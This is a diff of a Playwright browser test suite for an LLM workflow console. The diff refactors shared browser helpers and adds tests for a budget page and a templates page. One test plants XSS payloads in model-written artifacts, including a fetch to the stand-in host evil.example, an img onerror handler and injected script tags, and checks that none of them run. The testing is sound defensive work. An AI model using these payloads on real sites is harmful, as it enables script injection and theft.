@@ -1,12 +1,12 @@
 /** The console in a real browser: live, after a crash, by keyboard alone, for everybody, and safe from what models write. */
 import { gzipSync } from "node:zlib";
 import { AxeBuilder } from "@axe-core/playwright";
-import { type Browser, type BrowserContextOptions, chromium, type Page, type Response } from "playwright-core";
+import type { BrowserContextOptions, Page, Response } from "playwright-core";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { CHROMIUM } from "../support/chromium";
-import { Served, until } from "../support/served";
+import { ConsoleBrowser, DESK } from "../support/console-browser";
+import { until } from "../support/served";
 
-const DESK: BrowserContextOptions = { viewport: { width: 1280, height: 900 } };
 const PHONE: BrowserContextOptions = { viewport: { width: 375, height: 720 }, colorScheme: "dark" };
 const FIRST_LOAD_KIB = 150;
 
@@ -20,49 +20,21 @@ const SIGNS: Record<string, string> = {
   "run/questions": ".card",
   "/inbox": ".card",
   "/keys": ".box",
+  "/templates": "details",
+  "/usage": "table",
 };
 
 const plain = (question: string) => ({ workflow: "plain", input: { question } });
 const requirements = { workflow: "requirements", input: { idea: "A library that lends tools to neighbours" } };
 
 describe.skipIf(!CHROMIUM)("the console", () => {
-  let served: Served;
-  let browser: Browser;
-  /** What the browser refuses under the page's policy, and errors of scripts. */
-  const refusals: string[] = [];
+  let served: ConsoleBrowser["served"];
+  let on: ConsoleBrowser;
   beforeAll(async () => {
-    [served, browser] = await Promise.all([
-      Served.start(),
-      chromium.launch({ executablePath: CHROMIUM!, args: ["--no-sandbox"] }),
-    ]);
+    on = await ConsoleBrowser.start();
+    ({ served } = on);
   });
-  afterAll(() => Promise.all([served?.close(), browser?.close()]));
-
-  const start = async (request: object): Promise<string> =>
-    (await served.api("POST", "/v1/runs", served.test_key, request)).id;
-  const completed = async (request: object) => {
-    const id = await start(request);
-    await served.status(id, "completed", served.test_key);
-    return id;
-  };
-
-  async function open(how: BrowserContextOptions = DESK): Promise<Page> {
-    const page = await (await browser.newContext(how)).newPage();
-    page.on("pageerror", (error) => refusals.push(error.message));
-    page.on("console", (message) => {
-      if (/Content.Security.Policy/i.test(message.text())) refusals.push(message.text());
-    });
-    return page;
-  }
-
-  /** A page of the console, signed in by the link that `npm run dev` prints. */
-  async function signedIn(path: string, how?: BrowserContextOptions): Promise<Page> {
-    const page = await open(how);
-    await page.goto(`${served.url}/console#key=${served.test_key}`);
-    await page.getByRole("heading", { name: "Runs" }).waitFor();
-    await page.goto(`${served.url}/console${path}`);
-    return page;
-  }
+  afterAll(() => on?.close());
 
   it("leads a browser from / to the console, and answers others as before", async () => {
     const root = (accept: string) => fetch(`${served.url}/`, { headers: { accept }, redirect: "manual" });
@@ -76,7 +48,7 @@ describe.skipIf(!CHROMIUM)("the console", () => {
   });
 
   it("keeps the key out of every address and cookie, and forgets it at sign-out", async () => {
-    const page = await open();
+    const page = await on.open();
     const addresses: string[] = [];
     page.on("request", (request) => addresses.push(request.url(), request.headers().referer ?? ""));
     await page.goto(`${served.url}/console#key=${served.test_key}`);
@@ -94,7 +66,7 @@ describe.skipIf(!CHROMIUM)("the console", () => {
   });
 
   it(`loads at most ${FIRST_LOAD_KIB} KiB, gzipped, before the list of runs is shown`, async () => {
-    const page = await open();
+    const page = await on.open();
     const answers: Response[] = [];
     page.on("response", (response) => {
       if (response.url().includes("/console")) answers.push(response);
@@ -111,9 +83,9 @@ describe.skipIf(!CHROMIUM)("the console", () => {
   });
 
   it("shows a run that somebody starts, and its end, without a reload", async () => {
-    const page = await signedIn("/runs");
+    const page = await on.signedIn("/runs");
     await page.evaluate("window.mark = 1");
-    await start({ ...plain("How far is the lighthouse?"), test: { latency_ms: 2500 } });
+    await on.start({ ...plain("How far is the lighthouse?"), test: { latency_ms: 2500 } });
     const row = page.getByRole("row", { name: /How far is the lighthouse/ });
     await row.getByText("running").waitFor();
     await row.getByText("completed").waitFor();
@@ -124,8 +96,8 @@ describe.skipIf(!CHROMIUM)("the console", () => {
   });
 
   it("shows the calls under way, marked as not stored, and each event once after the server was killed", async () => {
-    const id = await start({ ...requirements, test: { latency_ms: 700 } });
-    const page = await signedIn(`/runs/${id}/events`);
+    const id = await on.start({ ...requirements, test: { latency_ms: 700 } });
+    const page = await on.signedIn(`/runs/${id}/events`);
     await page.getByText("not stored").waitFor();
     await until("some events are shown", async () => (await page.locator(".events > li").count()) > 3);
     const port = Number(new URL(served.url).port);
@@ -141,9 +113,9 @@ describe.skipIf(!CHROMIUM)("the console", () => {
   });
 
   it("says first why a run failed, where, and what to do", async () => {
-    const id = await start({ ...plain("Who are you?"), test: { faults: { llm: ["refusal"] } } });
+    const id = await on.start({ ...plain("Who are you?"), test: { faults: { llm: ["refusal"] } } });
     await served.status(id, "failed", served.test_key);
-    const page = await signedIn(`/runs/${id}`);
+    const page = await on.signedIn(`/runs/${id}`);
     const why = page.getByRole("region", { name: /Why it failed/ });
     await why.getByText("What to do").waitFor();
     expect(await why.textContent()).toMatch(/The model refused to answer.*In the stage Answer.*use another model/s);
@@ -151,8 +123,8 @@ describe.skipIf(!CHROMIUM)("the console", () => {
   });
 
   it("cancels a run, retries it from a stage, and follows its next life", async () => {
-    const page = await signedIn("/inbox");
-    const id = await start({ ...plain("How deep is the harbour?"), test: { latency_ms: 5000 } });
+    const page = await on.signedIn("/inbox");
+    const id = await on.start({ ...plain("How deep is the harbour?"), test: { latency_ms: 5000 } });
     await page.goto(`${served.url}/console/runs/${id}/events`);
     const told = (type: string) => page.locator(".events li > strong").getByText(type, { exact: true });
     await page.getByRole("button", { name: "Cancel run" }).click();
@@ -168,7 +140,7 @@ describe.skipIf(!CHROMIUM)("the console", () => {
   });
 
   it("can be used by keyboard alone, from the key to the result", async () => {
-    const page = await open();
+    const page = await on.open();
     await page.goto(`${served.url}/console`);
     const reach = async (name: RegExp) => {
       for (let presses = 0; presses < 60; presses++) {
@@ -195,7 +167,7 @@ describe.skipIf(!CHROMIUM)("the console", () => {
   });
 
   it("shows the faults of a form at their fields, and starts the run once they are mended", async () => {
-    const page = await signedIn("/runs/new/debate");
+    const page = await on.signedIn("/runs/new/debate");
     await page.getByText("More (2)").click();
     await page.getByLabel("Language", { exact: true }).first().fill("x");
     await page.getByRole("button", { name: "Start run" }).click();
@@ -208,7 +180,7 @@ describe.skipIf(!CHROMIUM)("the console", () => {
   });
 
   it("saves a template, starts a run of it, and sums up the usage", async () => {
-    const page = await signedIn("/templates");
+    const page = await on.signedIn("/templates");
     await page.getByText("New template").click();
     await page.getByLabel("Name").first().fill("Tides");
     await page.getByLabel("Request").fill(JSON.stringify(plain("What is the tide at {{place}}?")));
@@ -225,10 +197,35 @@ describe.skipIf(!CHROMIUM)("the console", () => {
     await page.context().close();
   });
 
+  it("shows the month's budget, and changes it with a live key only", async () => {
+    const path = "/usage";
+    const change = async (page: Page, dollars: string) => {
+      await page.getByText(/^(Set a|Change the) budget$/).click();
+      await page.getByLabel("Dollars a month").fill(dollars);
+      await page.getByLabel("At 100 %").selectOption("refuse");
+      await page.getByRole("button", { name: "Save" }).click();
+    };
+    const visitor = await on.signedIn(path);
+    await visitor.getByText("There is no budget.").waitFor();
+    await change(visitor, "5");
+    await visitor.getByText(/scope admin/).waitFor();
+    const page = await on.signedIn(path, DESK, served.live_key);
+    await change(page, "12.5");
+    await page.getByText("$0 of $12.50").waitFor();
+    await page.getByText("At 100 % new live runs are refused").waitFor();
+    const budget = () => served.api("GET", "/v1/budget", served.live_key);
+    expect(await budget()).toMatchObject({ amount_usd: 12.5, at_limit: "refuse" });
+    await page.getByLabel("Dollars a month").fill("");
+    await page.getByRole("button", { name: "Save" }).click();
+    await page.getByText("There is no budget.").waitFor();
+    expect((await budget()).amount_usd).toBeNull();
+    await Promise.all([page, visitor].map((each) => each.context().close()));
+  });
+
   it("lists open questions, gives one more time, and drops one that somebody has answered", async () => {
-    const id = await start({ ...requirements, options: { checkpoints: ["user_stories"] } });
+    const id = await on.start({ ...requirements, options: { checkpoints: ["user_stories"] } });
     const { interactions } = await served.status(id, "input_required", served.test_key);
-    const page = await signedIn("/inbox");
+    const page = await on.signedIn("/inbox");
     const card = page.getByRole("listitem").filter({ has: page.getByRole("link", { name: "Answer" }) });
     await card.waitFor();
     const expires = async () =>
@@ -244,7 +241,7 @@ describe.skipIf(!CHROMIUM)("the console", () => {
   });
 
   it("lets nothing that a model wrote act: scripts in SVG, Markdown and JSON", async () => {
-    const id = await completed(requirements);
+    const id = await on.completed(requirements);
     const { data } = await served.api("GET", `/v1/runs/${id}/artifacts?limit=100`, served.test_key);
     const attack = "fetch('https://evil.example/'),window.hacked=1";
     const hostile: Record<string, { media_type: string; content: unknown }> = {
@@ -261,7 +258,7 @@ describe.skipIf(!CHROMIUM)("the console", () => {
         content: { "<img src=x onerror=hacked=1>": `</script><script>${attack}</script>` },
       },
     };
-    const page = await signedIn("/runs");
+    const page = await on.signedIn("/runs");
     const strangers: string[] = [];
     page.on("request", (request) => {
       if (!/^(blob:)?http:\/\/(127\.0\.0\.1|localhost):/.test(request.url())) strangers.push(request.url());
@@ -290,7 +287,7 @@ describe.skipIf(!CHROMIUM)("the console", () => {
   });
 
   it("stays usable with a thousand runs and with five hundred artifacts", async () => {
-    const id = await completed(plain("Which tide is today?"));
+    const id = await on.completed(plain("Which tide is today?"));
     const [run] = (await served.api("GET", "/v1/runs?limit=1", served.test_key)).data;
     const {
       data: [artifact],
@@ -306,7 +303,7 @@ describe.skipIf(!CHROMIUM)("the console", () => {
       id: `art_${at}`,
       subject: `number ${at}`,
     }));
-    const page = await signedIn("/inbox");
+    const page = await on.signedIn("/inbox");
     await page.route(/\/v1\/runs\?/, (route) => route.fulfill({ json: pageOf(runs, new URL(route.request().url())) }));
     await page.route(/\/artifacts\?/, (route) =>
       route.fulfill({ json: pageOf(artifacts, new URL(route.request().url())) }),
@@ -328,17 +325,17 @@ describe.skipIf(!CHROMIUM)("the console", () => {
   });
 
   it.each([
-    ["a desk, in the light", DESK, ["run", "run/details", "/runs/new/debate", "/inbox", "/keys"]],
-    ["a phone, in the dark", PHONE, ["/runs", "run", "run/artifacts", "run/questions"]],
+    ["a desk, in the light", DESK, ["run", "run/details", "/runs/new/debate", "/inbox", "/keys", "/usage"]],
+    ["a phone, in the dark", PHONE, ["/runs", "run", "run/artifacts", "run/questions", "/templates", "/usage"]],
   ])("axe finds no fault, on %s, and nothing is wider than the window", async (_, how, paths) => {
-    const asking = await start({ ...requirements, options: { human_stakeholder: true } });
+    const asking = await on.start({ ...requirements, options: { human_stakeholder: true } });
     const { example } = await served.api("GET", "/v1/workflows/debate", served.test_key);
-    const done = await completed({ workflow: "debate", ...example });
+    const done = await on.completed({ workflow: "debate", ...example });
     await served.status(asking, "input_required", served.test_key);
     const addressOf = (path: string) =>
       path.replace(/^run/, path === "run/questions" ? `/runs/${asking}` : `/runs/${done}`);
     // axe is a script, so the page's policy is off.
-    const page = await signedIn("/runs", { ...how, bypassCSP: true });
+    const page = await on.signedIn("/runs", { ...how, bypassCSP: true });
     const found: string[] = [];
     for (const path of paths) {
       await page.goto(`${served.url}/console${addressOf(path)}`);
@@ -353,6 +350,6 @@ describe.skipIf(!CHROMIUM)("the console", () => {
   });
 
   it("breaks nothing of its own policy, and throws nothing", () => {
-    expect(refusals).toEqual([]);
+    expect(on.refusals).toEqual([]);
   });
 });
